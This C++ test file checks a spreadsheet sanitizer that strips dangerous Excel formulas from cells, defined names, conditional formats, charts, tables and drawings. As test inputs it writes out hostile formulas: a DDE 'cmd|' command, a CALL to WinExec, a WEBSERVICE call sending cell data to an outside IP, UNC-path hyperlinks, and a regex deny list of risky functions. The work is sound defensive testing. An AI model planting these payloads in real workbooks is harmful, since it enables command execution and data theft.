// Excel formulas, wherever they are (cells, shared formulas, defined names, conditional formats,
// data validations, x14 extensions, sparklines, tables, charts, drawing text links): one walker, one
// tokenizer that follows Excel's grammar, an allowlist of functions, HYPERLINK only to a literal
// https/mailto target. The output is read back with Python's zipfile and xml.etree and judged by a
// small independent checker written here, not by our tokenizer.
#include <regex>

#include "../../sanitizers/ooxml/formula.hpp"
#include "ooxml_support.hpp"

using namespace mugaika;
using namespace mugaika::test;
using namespace mugaika::test::ooxml;
namespace formula = mugaika::ooxml::formula;

namespace {

const std::string X14_NS = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main";
const std::string XM_NS = "http://schemas.microsoft.com/office/excel/2006/main";
const std::string C_NS = "http://schemas.openxmlformats.org/drawingml/2006/chart";
const std::string XDR_NS = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing";

// An independent judge of what a formula may still hold (regular expressions over the text with
// strings and quoted names blanked), deliberately simpler than the sanitizer's grammar.
std::string independent_problem(const std::string& f) {
    static const std::regex strings(R"re("(?:[^"]|"")*")re");
    static const std::regex quoted(R"re('(?:[^']|'')*'!)re");
    std::string blank = std::regex_replace(f, strings, "\"\"");
    std::string names_only = blank;
    for (std::sregex_iterator it(blank.begin(), blank.end(), quoted), end; it != end; ++it) {
        std::string q = it->str();
        if (q.find_first_of("[\\/") != std::string::npos) return "external quoted sheet " + q;
    }
    names_only = std::regex_replace(blank, quoted, "S!");
    if (names_only.find('|') != std::string::npos) return "DDE";
    static const std::regex external(R"(\[\d+\]|\[[^\]]*\.xls)", std::regex::icase);
    if (std::regex_search(names_only, external)) return "external workbook";
    static const std::regex bad_fn(
        R"((^|[^A-Za-z0-9_.])(_xll\.\w+|CALL|REGISTER(\.ID)?|EXEC|RTD|WEBSERVICE|FILTERXML|IMAGE|INFO|CUBE\w*|EVALUATE|FOPEN|FWRITE)\s*\()",
        std::regex::icase);
    if (std::regex_search(names_only, bad_fn)) return "bad function";
    static const std::regex hyperlink(R"re(HYPERLINK\s*\(\s*("(?:[^"]|"")*")?)re", std::regex::icase);
    for (std::sregex_iterator it(f.begin(), f.end(), hyperlink), end; it != end; ++it) {
        std::string lit = (*it)[1].str();
        if (lit.empty()) return "HYPERLINK with a computed target";
        std::string after = f.substr(static_cast<std::size_t>(it->position() + it->length()));
        after.erase(0, after.find_first_not_of(' '));
        if (!after.empty() && after[0] != ',' && after[0] != ')') return "HYPERLINK target continues: " + after;
        std::string t = lit.substr(1, lit.size() - 2);
        if (!(t.starts_with("https://") || t.starts_with("mailto:") || t.starts_with("#"))) return "HYPERLINK to " + t;
    }
    return {};
}

void check_formulas(const nlohmann::json& j) {
    for (const auto& f : j["formulas"]) {
        std::string text = f["text"].get<std::string>();
        CAPTURE(f["part"].get<std::string>());
        CAPTURE(text);
        CHECK(independent_problem(text).empty());
    }
}

bool formula_left(const nlohmann::json& j, const std::string& text) {
    for (const auto& f : j["formulas"])
        if (f["text"] == text) return true;
    return false;
}

std::string cell(const std::string& ref, const std::string& f, const std::string& v, const std::string& attrs = "") {
    return "<c r=\"" + ref + "\"><f" + attrs + ">" + f + "</f><v>" + v + "</v></c>";
}

std::string esc(std::string s) {
    std::string o;
    for (char c : s) {
        if (c == '&') o += "&amp;";
        else if (c == '<') o += "&lt;";
        else if (c == '"') o += "&quot;";
        else o += c;
    }
    return o;
}

const std::vector<std::string> kBad{
    "cmd|' /c calc'!A0",
    "'Sheet\"1'!A1&CALL(\"kernel32\",\"WinExec\",\"JJ\",\"calc\",0)&\"\"",
    "HYPERLINK(\"\\\\\\\\\"&\"203.0.113.9\\\\s\",\"x\")",
    "HYPERLINK(CHAR(92)&CHAR(92)&\"203.0.113.9\\s\",\"x\")",
    "HYPERLINK(A1,\"x\")",
    "HYPERLINK(\"file:///C:/Windows/calc.exe\")",
    "HYPERLINK(\"http://plain.example/\")",
    "HYPERLINK (\"\\\\203.0.113.9\\s\")",
    "_xlfn.WEBSERVICE(\"http://203.0.113.9/\"&A1)",
    "_xll.EVIL(1)",
    "IMAGE(\"https://203.0.113.9/t.png\")",
    "RTD(\"prog.id\",,\"x\")",
    "INFO(\"directory\")",
    "CUBEVALUE(\"conn\",\"x\")",
    "MYUDF(A1)",
    "Sheet2!Macro1()",
    "EXEC (\"calc\")",
    "[1]Sheet1!A1",
    "'C:\\Users\\[book.xlsx]Sheet1'!A1",
    "'\\\\203.0.113.9\\s\\[x.xlsx]S'!A1",
    "[Book1.xlsx]Sheet1!A1",
    "[1]!Name",
    "SUM(A1",
    "A1`B",
    "\"unterminated",
};

const std::vector<std::string> kGood{
    "SUM(A1:A10)",
    "IFERROR(VLOOKUP($B2,'売上 2024'!$A:$D,4,FALSE),\"\")",
    "SUM(Table1[[#This Row],[金額]])*税率",
    "'It''s'!A1+Sheet1:Sheet3!B2",
    "SUM({1,2;3,4})+IF(ISNA(#N/A),1,0)",
    "_xlfn.XLOOKUP(A1,B:B,C:C)",
    "_xlfn.LET(_xlpm.x,A1*2,_xlpm.x+1)",
    "\"a \"\"quoted\"\" | text\"&A1",
    "SUM(A1#)+@A1:A10+50%",
    "HYPERLINK(\"https://www.city.example.lg.jp/\",\"市のサイト\")",
    "HYPERLINK(\"mailto:somu@city.example.lg.jp\")",
    "HYPERLINK(\"#'名簿'!A1\",\"名簿へ\")",
    "SUBTOTAL(109,[金額])",
    "-1.5E+3+.5",
};

}  // namespace

TEST_CASE("ooxml formulas: the tokenizer follows Excel's grammar") {
    auto t = formula::tokenize("'Sheet\"1'!A1&\"a\"\"b\"&Table1[[#This Row],['[x']]]+{1,2;3}+#REF!");
    REQUIRE(t);
    std::vector<formula::Kind> kinds;
    for (const auto& k : *t) kinds.push_back(k.kind);
    using K = formula::Kind;
    CHECK(kinds == std::vector<K>{K::sheet, K::name, K::op, K::string, K::op, K::name, K::bracket, K::op, K::brace_open,
                                  K::number, K::comma, K::number, K::semicolon, K::number, K::brace_close, K::op, K::error});
    CHECK((*t)[0].text == "Sheet\"1");
    CHECK((*t)[0].quoted);
    CHECK((*t)[3].text == "a\"b");
    CHECK((*t)[6].text == "[#This Row],['[x']]");
    CHECK_FALSE(formula::tokenize("\"open"));
    CHECK_FALSE(formula::tokenize("'open!A1"));
    CHECK_FALSE(formula::tokenize("Table1[[x]"));
    CHECK_FALSE(formula::tokenize("#BOGUS!"));
    CHECK_FALSE(formula::tokenize("A1 ~ B1"));
    auto fns = formula::allowed_functions();
    CHECK(std::is_sorted(fns.begin(), fns.end()));
    for (const char* absent : {"CALL", "REGISTER.ID", "EXEC", "RTD", "WEBSERVICE", "FILTERXML", "IMAGE", "INFO", "HYPERLINK", "CUBEVALUE"})
        CHECK_FALSE(formula::function_allowed(absent));
}

TEST_CASE("ooxml formulas: the judge, formula by formula") {
    for (const auto& f : kBad) {
        CAPTURE(f);
        CHECK_FALSE(formula::problem(f, true).empty());
    }
    for (const auto& f : kGood) {
        CAPTURE(f);
        CHECK(formula::problem(f, true).empty());
        CHECK(independent_problem(f).empty());   // the test's own judge agrees
    }
    CHECK(formula::problem("HYPERLINK(\"#Sheet2!A1\")", false).empty());   // links = drop keeps jumps inside
    CHECK_FALSE(formula::problem("HYPERLINK(\"https://x.example/\")", false).empty());
}

TEST_CASE("ooxml formulas: every formula-bearing element in every namespace is judged, the values stay") {
    Xlsx x;
    std::string rows = "<sheetData><row r=\"1\">";
    for (std::size_t i = 0; i < kBad.size(); ++i)
        rows += cell("A" + std::to_string(i + 1), esc(kBad[i]), std::to_string(100 + i));
    for (std::size_t i = 0; i < kGood.size(); ++i)
        rows += cell("B" + std::to_string(i + 1), esc(kGood[i]), std::to_string(200 + i));
    // a shared formula whose master goes takes its dependants; a harmless one stays
    rows += cell("C1", "WEBSERVICE(A1)", "301", " t=\"shared\" ref=\"C1:C3\" si=\"0\"") + "<c r=\"C2\"><f t=\"shared\" si=\"0\"/><v>302</v></c>" +
            "<c r=\"C3\"><f t=\"shared\" si=\"0\"/><v>303</v></c>" + cell("D1", "A1*2", "401", " t=\"shared\" ref=\"D1:D2\" si=\"1\"") +
            "<c r=\"D2\"><f t=\"shared\" si=\"1\"/><v>402</v></c>";
    rows += "</row></sheetData>";
    std::string cf = R"(<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>WEBSERVICE("http://203.0.113.9/")</formula></cfRule></conditionalFormatting>)"
                     R"(<conditionalFormatting sqref="B1"><cfRule type="expression" priority="2"><formula>B1&gt;0</formula></cfRule></conditionalFormatting>)"
                     R"x(<conditionalFormatting sqref="C1"><cfRule type="colorScale" priority="3"><colorScale><cfvo type="formula" val="_xlfn.WEBSERVICE(&quot;http://x/&quot;)"/><cfvo type="max"/><color rgb="FF000000"/><color rgb="FFFFFFFF"/></colorScale></cfRule></conditionalFormatting>)x"
                     R"(<dataValidations count="1"><dataValidation type="list" sqref="E1"><formula1>"a,b,c"</formula1></dataValidation></dataValidations>)";
    std::string ext = "<extLst><ext uri=\"{78C0D931-6437-407d-A8EE-F0AAD7539E65}\" xmlns:x14=\"" + X14_NS + "\"><x14:conditionalFormattings>"
                      "<x14:conditionalFormatting xmlns:xm=\"" + XM_NS + "\"><x14:cfRule type=\"expression\" priority=\"4\" id=\"{00000000-0000-0000-0000-000000000001}\"><xm:f>HYPERLINK(\"\\\\203.0.113.9\\s\")</xm:f></x14:cfRule><xm:sqref>A1</xm:sqref></x14:conditionalFormatting>"
                      "<x14:conditionalFormatting xmlns:xm=\"" + XM_NS + "\"><x14:cfRule type=\"expression\" priority=\"5\" id=\"{00000000-0000-0000-0000-000000000002}\"><xm:f>$B$1&gt;1</xm:f></x14:cfRule><xm:sqref>B1</xm:sqref></x14:conditionalFormatting>"
                      "</x14:conditionalFormattings></ext><ext uri=\"{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}\" xmlns:x14=\"" + X14_NS + "\"><x14:dataValidations count=\"1\" xmlns:xm=\"" + XM_NS + "\">"
                      "<x14:dataValidation type=\"list\"><x14:formula1><xm:f>cmd|' /c calc'!A0</xm:f></x14:formula1><xm:sqref>F1</xm:sqref></x14:dataValidation></x14:dataValidations></ext>"
                      "<ext uri=\"{05C60535-1F16-4fd2-B633-F4F36F0B64E0}\" xmlns:x14=\"" + X14_NS + "\"><x14:sparklineGroups xmlns:xm=\"" + XM_NS + "\"><x14:sparklineGroup><x14:sparklines>"
                      "<x14:sparkline><xm:f>[1]Sheet1!A1:A3</xm:f><xm:sqref>G1</xm:sqref></x14:sparkline><x14:sparkline><xm:f>Sheet1!B1:B3</xm:f><xm:sqref>G2</xm:sqref></x14:sparkline>"
                      "</x14:sparklines></x14:sparklineGroup></x14:sparklineGroups></ext></extLst>";
    x.sheets.push_back({"Sheet1", "worksheet", "", rows + cf + "<drawing r:id=\"rIdD\"/><tableParts count=\"1\"><tablePart r:id=\"rIdT\"/></tableParts>" + ext,
                        rel("rIdD", "drawing", "../drawings/drawing1.xml") + rel("rIdT", "table", "../tables/table1.xml")});
    x.workbook_extra = "<definedNames><definedName name=\"Good\">Sheet1!$A$1</definedName><definedName name=\"Ext\">'\\\\203.0.113.9\\s\\[x.xlsx]S'!A1</definedName>"
                       "<definedName name=\"Dde\">cmd|'/c calc'!A0</definedName><definedName name=\"Udf\">EVIL()</definedName></definedNames>";
    x.types = {{"/xl/drawings/drawing1.xml", CT + "drawing+xml"}, {"/xl/charts/chart1.xml", CT + "drawingml.chart+xml"},
               {"/xl/tables/table1.xml", CT + "spreadsheetml.table+xml"}};
    x.parts = {
        {"xl/tables/table1.xml", "<table xmlns=\"" + X_NS + "\" id=\"1\" name=\"T\" displayName=\"T\" ref=\"H1:I3\"><tableColumns count=\"2\"><tableColumn id=\"1\" name=\"a\"/>"
                                 "<tableColumn id=\"2\" name=\"b\"><calculatedColumnFormula>WEBSERVICE(\"http://203.0.113.9/\")</calculatedColumnFormula></tableColumn></tableColumns></table>"},
        {"xl/drawings/drawing1.xml", "<xdr:wsDr xmlns:xdr=\"" + XDR_NS + "\" xmlns:a=\"" + A_NS + "\" xmlns:r=\"" + R_NS + "\"><xdr:twoCellAnchor><xdr:from><xdr:col>0</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>10</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>3</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>14</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to>"
                                     "<xdr:sp macro=\"[0]!Evil\" textlink=\"[1]Sheet1!A1\"><xdr:nvSpPr><xdr:cNvPr id=\"2\" name=\"S\"/><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr><a:prstGeom prst=\"rect\"><a:avLst/></a:prstGeom></xdr:spPr></xdr:sp><xdr:clientData/></xdr:twoCellAnchor>"
                                     "<xdr:twoCellAnchor><xdr:from><xdr:col>4</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>10</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>9</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>20</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to>"
                                     "<xdr:graphicFrame macro=\"\"><xdr:nvGraphicFramePr><xdr:cNvPr id=\"3\" name=\"C\"/><xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr><xdr:xfrm><a:off x=\"0\" y=\"0\"/><a:ext cx=\"0\" cy=\"0\"/></xdr:xfrm><a:graphic><a:graphicData uri=\"" + C_NS + "\"><c:chart xmlns:c=\"" + C_NS + "\" r:id=\"rIdC\"/></a:graphicData></a:graphic></xdr:graphicFrame><xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>"},
        {"xl/charts/chart1.xml", "<c:chartSpace xmlns:c=\"" + C_NS + "\" xmlns:a=\"" + A_NS + "\"><c:chart><c:plotArea><c:layout/><c:barChart><c:barDir val=\"col\"/><c:grouping val=\"clustered\"/>"
                                 "<c:ser><c:idx val=\"0\"/><c:order val=\"0\"/><c:tx><c:strRef><c:f>[1]Sheet1!$B$1</c:f><c:strCache><c:ptCount val=\"1\"/><c:pt idx=\"0\"><c:v>系列名</c:v></c:pt></c:strCache></c:strRef></c:tx>"
                                 "<c:val><c:numRef><c:f>'\\\\203.0.113.9\\s\\[x.xlsx]S'!$A$1:$A$2</c:f><c:numCache><c:formatCode>General</c:formatCode><c:ptCount val=\"2\"/><c:pt idx=\"0\"><c:v>11</c:v></c:pt><c:pt idx=\"1\"><c:v>22</c:v></c:pt></c:numCache></c:numRef></c:val></c:ser>"
                                 "<c:ser><c:idx val=\"1\"/><c:order val=\"1\"/><c:val><c:numRef><c:f>Sheet1!$B$1:$B$2</c:f><c:numCache><c:formatCode>General</c:formatCode><c:ptCount val=\"2\"/><c:pt idx=\"0\"><c:v>1</c:v></c:pt><c:pt idx=\"1\"><c:v>2</c:v></c:pt></c:numCache></c:numRef></c:val></c:ser>"
                                 "<c:axId val=\"1\"/><c:axId val=\"2\"/></c:barChart><c:catAx><c:axId val=\"1\"/><c:scaling/><c:delete val=\"0\"/><c:axPos val=\"b\"/><c:crossAx val=\"2\"/></c:catAx><c:valAx><c:axId val=\"2\"/><c:scaling/><c:delete val=\"0\"/><c:axPos val=\"l\"/><c:crossAx val=\"1\"/></c:valAx></c:plotArea></c:chart></c:chartSpace>"},
    };
    // the drawing's relationship to its chart
    Xlsx with_rels = x;
    with_rels.parts.push_back({"xl/drawings/_rels/drawing1.xml.rels",
                               "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">" +
                                   rel("rIdC", "chart", "../charts/chart1.xml") + "</Relationships>"});
    Outcome o = sanitize(with_rels.build(), "formulas.xlsx");
    auto j = checked_package(o);
    check_formulas(j);
    CHECK(has_finding(o, "ooxml.formula"));
    CHECK(has_finding(o, "ooxml.defined_name"));
    CHECK(has_finding(o, "ooxml.macro"));
    for (const auto& g : kGood) {
        CAPTURE(g);
        CHECK(formula_left(j, g));
    }
    CHECK(formula_left(j, "A1*2"));
    CHECK(formula_left(j, "Sheet1!$A$1"));
    CHECK(formula_left(j, "Sheet1!$B$1:$B$2"));
    CHECK(formula_left(j, "Sheet1!B1:B3"));
    CHECK(formula_left(j, "$B$1>1"));
    CHECK(formula_left(j, "B1>0"));
    CHECK(formula_left(j, "\"a,b,c\""));
    Unzipped z(o.outputs[0].bytes);
    std::string sheet = z.part("xl/worksheets/sheet1.xml");
    for (std::size_t i = 0; i < kBad.size(); ++i) CHECK(sheet.find("<v>" + std::to_string(100 + i) + "</v>") != std::string::npos);
    for (const char* v : {"301", "302", "303", "401", "402"}) CHECK(sheet.find(std::string("<v>") + v + "</v>") != std::string::npos);
    CHECK(sheet.find("si=\"0\"") == std::string::npos);   // the whole shared group went
    CHECK(sheet.find("203.0.113.9") == std::string::npos);
    CHECK(sheet.find("priority=\"1\"") == std::string::npos);
    CHECK(sheet.find("priority=\"3\"") == std::string::npos);
    CHECK(sheet.find("priority=\"4\"") == std::string::npos);
    CHECK(sheet.find("priority=\"5\"") != std::string::npos);
    CHECK(sheet.find("cmd|") == std::string::npos);
    CHECK(sheet.find("G1") == std::string::npos);
    CHECK(sheet.find("G2") != std::string::npos);
    std::string chart = z.part("xl/charts/chart1.xml");
    CHECK(chart.find("203.0.113.9") == std::string::npos);
    CHECK(chart.find("[1]") == std::string::npos);
    CHECK(chart.find("numLit") != std::string::npos);
    CHECK(chart.find("<c:v>22</c:v>") != std::string::npos);
    CHECK(chart.find("系列名") != std::string::npos);
    std::string drawing = z.part("xl/drawings/drawing1.xml");
    CHECK(drawing.find("Evil") == std::string::npos);
    CHECK(drawing.find("textlink") == std::string::npos);
    CHECK(z.part("xl/tables/table1.xml").find("WEBSERVICE") == std::string::npos);
    std::string wb = z.part("xl/workbook.xml");
    CHECK(wb.find("name=\"Good\"") != std::string::npos);
    for (const char* gone : {"name=\"Ext\"", "name=\"Dde\"", "name=\"Udf\""}) CHECK(wb.find(gone) == std::string::npos);
}

TEST_CASE("ooxml formulas: links = drop keeps only jumps inside the workbook") {
    Xlsx x;
    x.sheets.push_back({"S", "worksheet", "", "<sheetData><row r=\"1\">" +
                                                  cell("A1", esc("HYPERLINK(\"https://www.city.example.lg.jp/\",\"市\")"), "0") +
                                                  cell("A2", esc("HYPERLINK(\"#S!B1\",\"下へ\")"), "0") + "</row></sheetData>",
                        ""});
    Outcome o = sanitize(x.build(), "l.xlsx", {{"links", "drop"}, {"metadata", "keep"}});
    auto j = checked_package(o);
    CHECK_FALSE(formula_left(j, "HYPERLINK(\"https://www.city.example.lg.jp/\",\"市\")"));
    CHECK(formula_left(j, "HYPERLINK(\"#S!B1\",\"下へ\")"));
}
